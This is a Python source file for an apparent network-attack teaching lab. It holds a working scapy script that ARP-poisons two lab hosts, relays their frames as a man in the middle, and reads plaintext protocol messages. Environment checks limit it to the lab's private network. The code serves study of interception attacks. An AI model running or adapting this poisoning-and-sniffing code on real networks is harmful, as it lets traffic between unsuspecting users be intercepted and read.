#!/usr/bin/python3
"""Scenario 05's attack, written with scapy: ARP poisoning, a layer-2 relay,
and reading the plaintext records of the mitmlab protocol.

mitmlab runs this in mallory's network namespace in place of bin/mallory
(`[mallory] command = ./scapy_arp_relay.py`, examples/05-scapy.ini), and
tells it everything through the environment (docs/scenarios.md, "Bring your
own attacker"). It speaks to the lab only through JSON-lines events on
descriptor MITMLAB_EVENTS_FD (docs/events.md). What it claims there is
checked: the judge believes a message-read only when alice or bob really sent
those bytes.

Run it through mitmlab only: it sends forged ARP frames, which belong on the
lab's private network and nowhere else.
"""

import json
import os
import select
import signal
import struct
import sys
import time

try:
    from scapy.all import ARP, IP, TCP, UDP, Ether, conf, get_if_hwaddr
except ImportError:
    sys.exit("scapy_arp_relay: scapy is missing: run tools/install-deps.sh (Debian's python3-scapy)")

env = os.environ
if "MITMLAB_EVENTS_FD" not in env:
    sys.exit("scapy_arp_relay: run me through mitmlab: mitmlab run examples/05-scapy.ini")
IFACE = env["MITMLAB_IFACE"]
ALICE, BOB = env["MITMLAB_ALICE_IP"], env["MITMLAB_BOB_IP"]
MAC = {ALICE: env["MITMLAB_ALICE_MAC"], BOB: env["MITMLAB_BOB_MAC"]}  # the true MACs
ME = env["MITMLAB_MALLORY_MAC"]
PORT = int(env["MITMLAB_PORT"])
EVENTS_FD = int(env["MITMLAB_EVENTS_FD"])
OTHER = {ALICE: BOB, BOB: ALICE}
# A safety rail like bin/mallory's: send only from mallory's interface in the lab.
if get_if_hwaddr(IFACE) != ME:
    sys.exit(f"scapy_arp_relay: {IFACE} is not mallory's interface in a mitmlab lab (MAC not {ME}): refusing to send")

CIPHER_NONE = 3  # protocol.md §4.4
MAX_BODY = 16409  # protocol.md §2.1: the largest frame body (a record)


def emit(event, **fields):
    """One event, one line, one write() (docs/events.md §1)."""
    line = json.dumps({"t": time.clock_gettime(time.CLOCK_MONOTONIC), "actor": "mallory",
                       "event": event, **fields}, ensure_ascii=True, separators=(",", ":"))
    os.write(EVENTS_FD, line.encode() + b"\n")


sock = conf.L2socket(iface=IFACE)  # one raw Ethernet socket: receives and sends frames


def arp(victim, op, claimed_ip, claimed_mac):
    """Tells victim "claimed_ip is at claimed_mac", as an ARP request or reply."""
    sock.send(Ether(src=ME, dst=MAC[victim]) /
              ARP(op=op, hwsrc=claimed_mac, psrc=claimed_ip,
                  hwdst="00:00:00:00:00:00" if op == "who-has" else MAC[victim], pdst=victim))


def poison():
    for victim in (ALICE, BOB):
        # A request addressed to the victim makes its kernel learn the sender
        # (the other victim's IP, at our MAC) whatever it had; the reply
        # updates an entry it already has.
        arp(victim, "who-has", OTHER[victim], ME)
        arp(victim, "is-at", OTHER[victim], ME)


def restore():
    """The true mappings back, the same two ways."""
    for victim in (ALICE, BOB):
        arp(victim, "who-has", OTHER[victim], MAC[OTHER[victim]])
        arp(victim, "is-at", OTHER[victim], MAC[OTHER[victim]])


# Reading the protocol: each TCP direction reassembled in order, cut into
# frames (type u8, length u32 big-endian, body; protocol.md §2).
streams = {}  # (src, dst) -> {"next": expected TCP sequence number, "buf": bytes not yet a whole frame}
ciphers = {}  # the connection's two ends, sorted -> cipher chosen by the server hello
messages_read = 0


def follow(ip, tcp):
    global messages_read
    src, dst = f"{ip.src}:{tcp.sport}", f"{ip.dst}:{tcp.dport}"
    conn = tuple(sorted((src, dst)))
    if tcp.flags.S:  # a new connection: its data starts after the SYN
        streams[(src, dst)] = {"next": tcp.seq + 1, "buf": b""}
        ciphers.pop(conn, None)
        return
    st = streams.get((src, dst))
    data = bytes(tcp.payload)
    if not st or not data or tcp.seq != st["next"]:
        return  # not followed, empty, or out of order (the retransmission will come through us again)
    st["next"] = (st["next"] + len(data)) % 2**32
    st["buf"] += data
    while len(st["buf"]) >= 5:
        ftype, length = struct.unpack(">BI", st["buf"][:5])
        if length > MAX_BODY:  # hostile or not the protocol: stop following this direction
            del streams[(src, dst)]
            return
        if len(st["buf"]) < 5 + length:
            return  # the rest of the frame is in a later segment
        body, st["buf"] = st["buf"][5:5 + length], st["buf"][5 + length:]
        if ftype == 2 and len(body) >= 38:  # server hello: the cipher is byte 37 (protocol.md §3.2)
            ciphers[conn] = body[37]
        elif ftype == 6 and ciphers.get(conn) == CIPHER_NONE and len(body) >= 9:
            # a record in clear: seq u64 | content type u8 | data (§3.6); 1 is data, 2 is close
            seq, content, msg = struct.unpack(">Q", body[:8])[0], body[8], body[9:]
            if content == 1:
                fields = {"from": src, "to": dst, "seq": seq, "len": len(msg), "hex": msg.hex()}
                try:
                    fields["text"] = msg.decode("utf-8")
                except UnicodeDecodeError:
                    pass
                emit("message-read", **fields)
                messages_read += 1


relayed, seen_from = 0, set()


def handle(frame):
    global relayed
    if ARP in frame:
        a = frame[ARP]
        if a.op == 1 and a.psrc in MAC and a.pdst == OTHER[a.psrc]:
            # A victim asks for the other one (a broadcast, or a unicast check
            # of the entry we gave it): answer at once, so it stays ours.
            arp(a.psrc, "is-at", a.pdst, ME)
        return
    if IP not in frame or frame[Ether].dst != ME or frame[IP].src not in MAC or frame[IP].dst not in MAC:
        return
    # Poisoning brought us a frame between the victims (our kernel does not
    # forward it): readdress it to its true owner and send it on, unchanged
    # above Ethernet.
    ip = frame[IP]
    if ip.src not in seen_from:
        seen_from.add(ip.src)
        emit("relaying", **{"from": ip.src, "to": ip.dst, "confirmed": True})
    frame[Ether].src, frame[Ether].dst = ME, MAC[ip.dst]
    # On veth a frame caught before it left its sender carries an unfinished
    # TCP/UDP checksum (checksum offload): sent on as it is, the receiver
    # drops it. Deleting the fields makes scapy compute them when it sends.
    del ip.chksum
    for layer in (TCP, UDP):
        if layer in ip:
            del ip[layer].chksum
    sock.send(frame)
    relayed += 1
    if TCP in ip and PORT in (ip[TCP].sport, ip[TCP].dport):
        follow(ip, ip[TCP])


stopping = False


def on_sigterm(signum, frame):
    global stopping
    stopping = True  # the loop below notices within a second


signal.signal(signal.SIGTERM, on_sigterm)  # how the runner stops us
signal.signal(signal.SIGINT, on_sigterm)

poison()
emit("poisoning", targets=[ALICE, BOB], mac=ME, interval_ms=1000, attack="relay")  # the runner waits for this
next_round = time.monotonic() + 1.0
while not stopping:
    ready, _, _ = select.select([sock], [], [], max(0.0, next_round - time.monotonic()))
    if time.monotonic() >= next_round:  # a poisoned entry ages like any other: repeat every second
        poison()
        next_round = time.monotonic() + 1.0
    if ready:
        frame = sock.recv()  # None for a frame we sent ourselves
        if frame is not None and Ether in frame:
            handle(frame)

restore()
restore()  # twice: one lost frame must not leave a victim poisoned
emit("restored")
emit("stopped", relayed=relayed, messages_read=messages_read)
sock.close()
